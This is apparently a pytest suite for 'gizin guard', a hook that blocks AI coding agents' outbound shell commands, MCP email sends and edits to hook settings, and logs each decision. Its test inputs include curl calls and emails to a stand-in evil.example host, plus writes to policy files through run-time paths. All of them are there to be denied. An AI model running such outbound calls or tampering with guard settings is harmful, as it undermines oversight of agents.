"""The hook contract of `gizin guard` for Claude Code, Codex CLI and Gemini CLI, through real processes:
exit codes, stdout JSON and stderr; every way it fails closed; a 200 KB input; the audit rows it writes."""

from __future__ import annotations

import hashlib
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from tests.helpers import base_env, run_gizin
from tests.policykit import write_policy_office

SHELL_TOOL = {"claude": "Bash", "codex": "Bash", "gemini": "run_shell_command"}


@pytest.fixture
def office(tmp_path: Path) -> Path:
    folder = tmp_path / "office"
    write_policy_office(folder)
    return folder


def guard(
    office: Path, event: dict[str, Any] | str, fmt: str = "claude", home: Path | None = None, **env: str
) -> tuple[int, str, str]:
    environment = base_env(home or office.parent, GIZIN_HOME=str(office), **env)
    data = event if isinstance(event, str) else json.dumps(event)
    done = run_gizin("guard", "--format", fmt, env=environment, input=data, cwd=office)
    return done.returncode, done.stdout, done.stderr


def shell_event(fmt: str, command: str, office: Path, **extra: Any) -> dict[str, Any]:
    event = {"tool_name": SHELL_TOOL[fmt], "tool_input": {"command": command}, "cwd": str(office)}
    event.update(extra)
    return event


@pytest.mark.parametrize("fmt", ["claude", "codex", "gemini"])
def test_deny_is_json_on_stdout_reason_on_stderr_and_exit_2(office: Path, fmt: str) -> None:
    """Exit 2 blocks in Claude Code and Codex; Gemini CLI 0.61 blocks on the JSON decision and shows any
    non-zero exit as a failed hook, so there a deny exits 0."""
    code, out, err = guard(office, shell_event(fmt, "curl -s https://api.evil.example/v1", office), fmt)
    assert code == (0 if fmt == "gemini" else 2)
    answer = json.loads(out)
    specific = answer["hookSpecificOutput"]
    assert specific["permissionDecision"] == "deny"
    assert specific["hookEventName"] == ("BeforeTool" if fmt == "gemini" else "PreToolUse")
    assert "domains: evil.example" in specific["permissionDecisionReason"]
    assert answer["decision"] == ("deny" if fmt == "gemini" else "block")
    assert "domains: evil.example" in err


@pytest.mark.parametrize("fmt", ["claude", "codex", "gemini"])
def test_allow_is_exit_0(office: Path, fmt: str) -> None:
    code, out, err = guard(office, shell_event(fmt, "git status && curl -s https://ok.example/", office), fmt)
    assert code == 0, err
    assert out.strip() == ("{}" if fmt == "gemini" else "")


@pytest.mark.parametrize(
    ("fmt", "code", "decision"), [("claude", 0, "ask"), ("codex", 2, "deny"), ("gemini", 0, "deny")]
)
def test_unresolvable_target_asks_where_the_cli_can(office: Path, fmt: str, code: int, decision: str) -> None:
    got, out, err = guard(office, shell_event(fmt, "curl https://$H.example/", office), fmt)
    assert got == code
    assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == decision
    assert "only known at run time" in err


@pytest.mark.parametrize(
    ("stdin", "reason"),
    [
        ("this is not json", "not hook JSON"),
        ("[1, 2]", "not a JSON object"),
        ('{"tool_input": {"command": "ls"}}', "tool_name is missing"),
        ('{"tool_name": "Bash"}', "tool_input is missing"),
        ('{"tool_name": "Bash", "tool_input": "ls"}', "tool_input is missing or not an object"),
        ('{"tool_name": "Bash", "tool_input": {"cmd_typo": "ls"}}', "without a command"),
        ("", "not hook JSON"),
    ],
)
def test_malformed_input_is_denied(office: Path, stdin: str, reason: str) -> None:
    code, out, err = guard(office, stdin)
    assert code == 2
    assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert reason in err


def test_a_policy_that_does_not_parse_denies_everything(office: Path) -> None:
    roster = office / "agents.toml"
    roster.write_text(roster.read_text(encoding="utf-8") + "\nemails = [\n", encoding="utf-8")
    code, out, err = guard(office, shell_event("claude", "ls", office))
    assert code == 2 and json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert "policy unavailable" in err and "agents.toml:" in err


def test_an_invalid_entry_denies_everything_naming_the_line(office: Path) -> None:
    roster = office / "agents.toml"
    text = roster.read_text(encoding="utf-8").replace('"evil.example", ', '"evil.example", "not a domain!", ')
    roster.write_text(text, encoding="utf-8")
    code, _, err = guard(office, shell_event("claude", "ls", office))
    assert code == 2 and "blocklist.domains[1]" in err


def test_no_office_at_all_is_a_deny(tmp_path: Path) -> None:
    lonely = tmp_path / "nowhere"
    lonely.mkdir()
    done = run_gizin("guard", env=base_env(tmp_path), input=json.dumps(shell_event("claude", "ls", lonely)), cwd=lonely)
    assert done.returncode == 2 and "no agents.toml" in done.stderr


@pytest.mark.parametrize("setting", ["0.000001", "0", "-3"])
def test_own_deadline_is_a_deny(office: Path, setting: str) -> None:
    # ~14 MB of words take seconds to read, far past the shortest deadline the guard accepts (0.1 s);
    # 0 or a negative value is clamped to it, never read as "no timer".
    padding = " ".join(f"word{i}" for i in range(30_000)) * 50
    event = shell_event("claude", f"echo {padding}; curl https://ok.example/", office)
    code, out, err = guard(office, event, GIZIN_GUARD_DEADLINE=setting)
    assert code == 2 and "0.1 s deadline" in err
    assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_an_audit_that_cannot_be_written_is_a_deny(office: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder", encoding="utf-8")
    code, _, err = guard(office, shell_event("claude", "ls", office), GIZIN_DB=str(blocker / "gizin.db"))
    assert code == 2 and "gizin guard:" in err


def test_unknown_argument_and_unknown_agent_are_denied(office: Path) -> None:
    environment = base_env(office.parent, GIZIN_HOME=str(office))
    done = run_gizin("guard", "--formatt", "claude", env=environment, input="{}", cwd=office)
    assert done.returncode == 2 and "unknown argument" in done.stderr
    code, _, err = guard(office, shell_event("claude", "ls", office), GIZIN_AGENT="mallory")
    assert code == 2 and "unknown agent 'mallory'" in err


def test_agent_with_outbound_deny(office: Path) -> None:
    code, _, err = guard(office, shell_event("codex", "curl https://ok.example/", office), "codex", GIZIN_AGENT="bob")
    assert code == 2 and "outbound: deny (agent bob)" in err
    code, _, _ = guard(office, shell_event("codex", "ls", office), "codex", GIZIN_AGENT="bob")
    assert code == 0


def test_mcp_and_self_protection_through_the_process(office: Path) -> None:
    mcp = {"tool_name": "mcp__gmail__send", "tool_input": {"to": [{"address": "Ceo@Evil.Example"}]}}
    assert guard(office, mcp)[0] == 2
    write = {"tool_name": "Write", "tool_input": {"file_path": str(office / ".claude" / "settings.json")}}
    code, _, err = guard(office, write)
    assert code == 2 and "hook settings" in err


def test_a_200_kb_input_is_decided_within_the_guards_own_deadline(office: Path) -> None:
    # The guard denies itself past its deadline, so an allow proves the 200 KB input was read in time. The
    # deadline is the longest one can set: how fast it reads is measured in bench/ (282 KB in ~90 ms), not here.
    padding = " ".join(f"word{i}" for i in range(30_000))
    assert len(padding) > 200_000
    assert guard(office, shell_event("claude", "ls", office))[0] == 0  # warm: policy cache and database made
    allowed = shell_event("claude", f"echo {padding}; curl https://ok.example/", office)
    code, _, err = guard(office, allowed, GIZIN_GUARD_DEADLINE="5")
    assert code == 0, err
    blocked = shell_event("claude", f"echo {padding}; curl https://evil.example/", office)
    code, _, err = guard(office, blocked, GIZIN_GUARD_DEADLINE="5")
    assert code == 2 and "domains: evil.example" in err
    # A tool that sends what it is given: its text is read for URLs and @mentions (a notes tool's text,
    # which reaches nobody, is not read at all).
    mcp = {
        "tool_name": "mcp__gmail__send_email",
        "tool_input": {"to": "ok@ok.example", "body": padding + " mailto:CEO@evil.example"},
    }
    code, _, err = guard(office, mcp, GIZIN_GUARD_DEADLINE="5")
    assert code == 2 and "emails: ceo@evil.example" in err


def test_every_decision_is_an_audit_row_without_bodies(office: Path) -> None:
    deny = shell_event("claude", "curl https://evil.example/", office, session_id="s-1", tool_use_id="toolu_9")
    for _ in range(3):
        assert guard(office, deny, GIZIN_AGENT="ann")[0] == 2
    secret = {"tool_name": "Write", "tool_input": {"file_path": "notes.md", "content": "SECRET-BODY-TEXT"}}
    assert guard(office, secret, GIZIN_AGENT="ann")[0] == 0
    conn = sqlite3.connect(office / ".gizin" / "gizin.db")
    conn.row_factory = sqlite3.Row
    rows = [dict(r) for r in conn.execute("SELECT * FROM outbound_audit ORDER BY id")]
    assert [r["decision"] for r in rows] == ["deny", "deny", "deny", "allow"]
    first = rows[0]
    assert first["agent"] == "ann" and first["channel"] == "hook:Bash" and first["tool"] == "Bash"
    assert first["session_id"] == "s-1" and first["tool_use_id"] == "toolu_9"
    assert first["rule"] == "domains: evil.example" and first["normalized"] == "evil.example"
    assert first["input_hash"] == hashlib.sha256(json.dumps(deny).encode()).hexdigest()
    assert rows[0]["input_hash"] == rows[1]["input_hash"] == rows[2]["input_hash"]
    assert all("SECRET-BODY-TEXT" not in json.dumps(r) for r in rows)
    versions = conn.execute("SELECT hash, content FROM policy_versions").fetchall()
    assert len(versions) == 1 and all(r["policy_hash"] == versions[0][0] for r in rows)
    assert "evil.example" in versions[0][1]


def test_the_policy_version_is_recorded_in_a_database_that_has_not_seen_it(office: Path, tmp_path: Path) -> None:
    # The first call writes the policy cache (the roster is older than the settling time); a second
    # database then gets the same policy from the cache, not from a rebuild.
    import os
    import time

    old = time.time() - 60
    os.utime(office / "agents.toml", (old, old))
    assert guard(office, shell_event("claude", "ls", office))[0] == 0
    assert (office / ".gizin" / "policy.cache").exists()
    other = tmp_path / "other.db"
    assert guard(office, shell_event("claude", "curl https://evil.example/", office), GIZIN_DB=str(other))[0] == 2
    assert guard(office, shell_event("claude", "ls", office), GIZIN_DB=str(other))[0] == 0
    conn = sqlite3.connect(other)
    versions = conn.execute("SELECT hash, content FROM policy_versions").fetchall()
    hashes = {h for (h,) in conn.execute("SELECT policy_hash FROM outbound_audit")}
    assert len(versions) == 1 and hashes == {versions[0][0]} and "evil.example" in versions[0][1]


def audit_rows(db: Path) -> list[dict[str, Any]]:
    conn = sqlite3.connect(db)
    conn.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in conn.execute("SELECT * FROM outbound_audit ORDER BY id")]
    finally:
        conn.close()


@pytest.mark.parametrize("stdin", ["garbage", "", '{"tool_name": "Bash"}', "[1, 2]"])
def test_malformed_input_is_denied_and_audited(office: Path, stdin: str) -> None:
    code, out, err = guard(office, stdin, GIZIN_AGENT="ann")
    assert code == 2 and "cannot read the hook input" in err
    assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert "could not be audited" not in err
    rows = audit_rows(office / ".gizin" / "gizin.db")
    assert len(rows) == 1
    row = rows[0]
    assert (row["decision"], row["rule"], row["agent"]) == ("deny", "guard: malformed input", "ann")
    assert row["input_hash"] == hashlib.sha256(stdin.encode()).hexdigest()
    assert row["policy_hash"] is not None  # the policy in force was loaded, and is named
    assert "cannot read the hook input" in row["reason"]


def test_malformed_input_without_a_cwd_finds_the_office_from_the_guards_own_cwd(office: Path) -> None:
    environment = base_env(office.parent)  # no GIZIN_HOME: the office is found upward from the cwd
    (office / "sub").mkdir()
    done = run_gizin("guard", env=environment, input="garbage", cwd=office / "sub")
    assert done.returncode == 2 and "cannot read the hook input" in done.stderr
    assert [r["rule"] for r in audit_rows(office / ".gizin" / "gizin.db")] == ["guard: malformed input"]


def test_a_policy_that_cannot_be_read_is_audited_in_the_configured_database(office: Path) -> None:
    roster = office / "agents.toml"
    text = roster.read_text(encoding="utf-8").replace('session = "policy-test"', 'session = "policy-test"\ndb = "x.db"')
    roster.write_text(text.replace('"evil.example", ', '"evil.example", "not a domain!", '), encoding="utf-8")
    code, _, err = guard(office, shell_event("claude", "ls", office), GIZIN_AGENT="ann")
    assert code == 2 and "policy unavailable" in err and "could not be audited" not in err
    rows = audit_rows(office / "x.db")
    assert [(r["decision"], r["rule"], r["policy_hash"]) for r in rows] == [("deny", "guard: policy unavailable", None)]
    assert "blocklist.domains[1]" in rows[0]["reason"]
    # not TOML at all: still recorded (the default database, as the roster can no longer say)
    roster.write_text(roster.read_text(encoding="utf-8") + "\nemails = [\n", encoding="utf-8")
    code, _, err = guard(office, "garbage")
    assert code == 2 and "policy unavailable" in err and "could not be audited" not in err
    assert [r["rule"] for r in audit_rows(office / ".gizin" / "gizin.db")] == ["guard: policy unavailable"]


def test_a_deny_that_cannot_be_audited_says_so(office: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder", encoding="utf-8")
    unwritable = str(blocker / "gizin.db")
    code, _, err = guard(office, shell_event("claude", "ls", office), GIZIN_DB=unwritable)
    assert code == 2 and "could not be audited" in err
    code, _, err = guard(office, shell_event("claude", "curl https://evil.example/", office), GIZIN_DB=unwritable)
    assert code == 2 and "domains: evil.example" in err and "could not be audited" in err
    code, _, err = guard(office, "garbage", GIZIN_DB=unwritable)
    assert code == 2 and "cannot read the hook input" in err and "could not be audited" in err


def test_no_office_at_all_says_the_deny_is_not_on_record(tmp_path: Path) -> None:
    lonely = tmp_path / "nowhere"
    lonely.mkdir()
    done = run_gizin("guard", env=base_env(tmp_path), input="garbage", cwd=lonely)
    assert done.returncode == 2 and "no agents.toml" in done.stderr and "could not be audited" in done.stderr


def test_an_empty_office_flag_counts_as_none(office: Path) -> None:
    environment = base_env(office.parent, GIZIN_HOME=str(office))
    event = json.dumps(shell_event("claude", "curl https://evil.example/", office))
    done = run_gizin("guard", "--office", "", env=environment, input=event, cwd=office.parent)
    assert done.returncode == 2 and "domains: evil.example" in done.stderr  # GIZIN_HOME's office decided
    lonely = office.parent / "nowhere"
    lonely.mkdir()
    event = json.dumps(shell_event("claude", "ls", lonely))
    done = run_gizin("guard", "--office=", env=base_env(office.parent), input=event, cwd=lonely)
    assert done.returncode == 2 and "no agents.toml" in done.stderr and "set GIZIN_HOME" in done.stderr


def test_a_locked_database_is_a_deny_within_the_deadline_not_a_wait(office: Path) -> None:
    """The guard waits for the audit's write lock for less than its own deadline, then denies saying
    why; with the store's default busy timeout it would sit there until the deadline cut it off."""
    assert guard(office, shell_event("claude", "ls", office))[0] == 0  # database and policy cache made
    assert not [p.name for p in (office / ".gizin").iterdir() if p.name.endswith(".tmp")]
    holder = sqlite3.connect(office / ".gizin" / "gizin.db", isolation_level=None)
    try:
        holder.execute("BEGIN IMMEDIATE")
        code, _, err = guard(office, shell_event("claude", "ls", office), GIZIN_GUARD_DEADLINE="5")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert code == 2 and "could not be audited" in err and "locked" in err and "deadline" not in err


@pytest.mark.parametrize(("fmt", "code", "decision"), [("claude", 0, "ask"), ("codex", 2, "deny")])
def test_a_policy_file_in_a_folder_only_known_at_run_time_needs_approval(
    office: Path, fmt: str, code: int, decision: str
) -> None:
    include = office / "policy.toml"
    include.write_text('emails = ["ceo@evil.example"]\n', encoding="utf-8")
    roster = office / "agents.toml"
    text = roster.read_text(encoding="utf-8")
    roster.write_text(text[: text.index("[blocklist]")] + '[blocklist]\ninclude = "policy.toml"\n', encoding="utf-8")
    for target in ('"$HOME/../$(whoami)/agents.toml"', '"$OFFICE/policy.toml"', '"$D"/.codex/../hooks.json'):
        got, out, err = guard(office, shell_event(fmt, f"echo '[blocklist]' > {target}", office), fmt)
        assert got == code, err
        assert json.loads(out)["hookSpecificOutput"]["permissionDecision"] == decision
        assert "in a folder only known at run time" in err
    assert guard(office, shell_event(fmt, 'echo x > "$OFFICE/other.toml"', office), fmt)[0] == 0
    rows = audit_rows(office / ".gizin" / "gizin.db")
    assert [r["decision"] for r in rows] == ["ask"] * 3 + ["allow"]  # what the guard decided, before the dialect
